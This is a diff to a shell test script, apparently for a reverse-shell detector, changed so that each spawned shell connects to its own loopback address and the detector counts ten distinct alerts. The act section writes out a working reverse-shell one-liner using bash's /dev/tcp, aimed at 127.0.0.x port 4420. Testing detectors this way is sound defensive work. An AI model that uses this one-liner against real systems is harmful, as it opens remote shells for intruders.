@@ -3,7 +3,8 @@
 # expect: reverse_shell_detected at least 10 distinct reverse_shell.process_list.0.process_id
 #   detection.reason: ~outbound
 #
-# A slow watcher misses some of such shells: there are more until it has found ten.
+# A slow watcher misses some of such shells: there are more until it has found ten. Each has a peer
+# of its own, since alerts with one cause are summed up.
 
 #: prepare
 . lib/peers.sh
@@ -18,6 +19,7 @@ await 'grep -q :1144.*:0000.0A /proc/net/tcp'
 #: act
 . lib/peers.sh
 act
-until come || ((SECONDS > 60)); do
-  bash -c "sh >& /dev/tcp/127.0.0.1/4420 0>&1" < /dev/null > /dev/null 2>&1
+for ((peer = 2; peer < 250; peer++)); do
+  ! come && ((SECONDS < 60)) || break
+  bash -c "sh >& /dev/tcp/127.0.0.$peer/4420 0>&1" < /dev/null > /dev/null 2>&1
 done
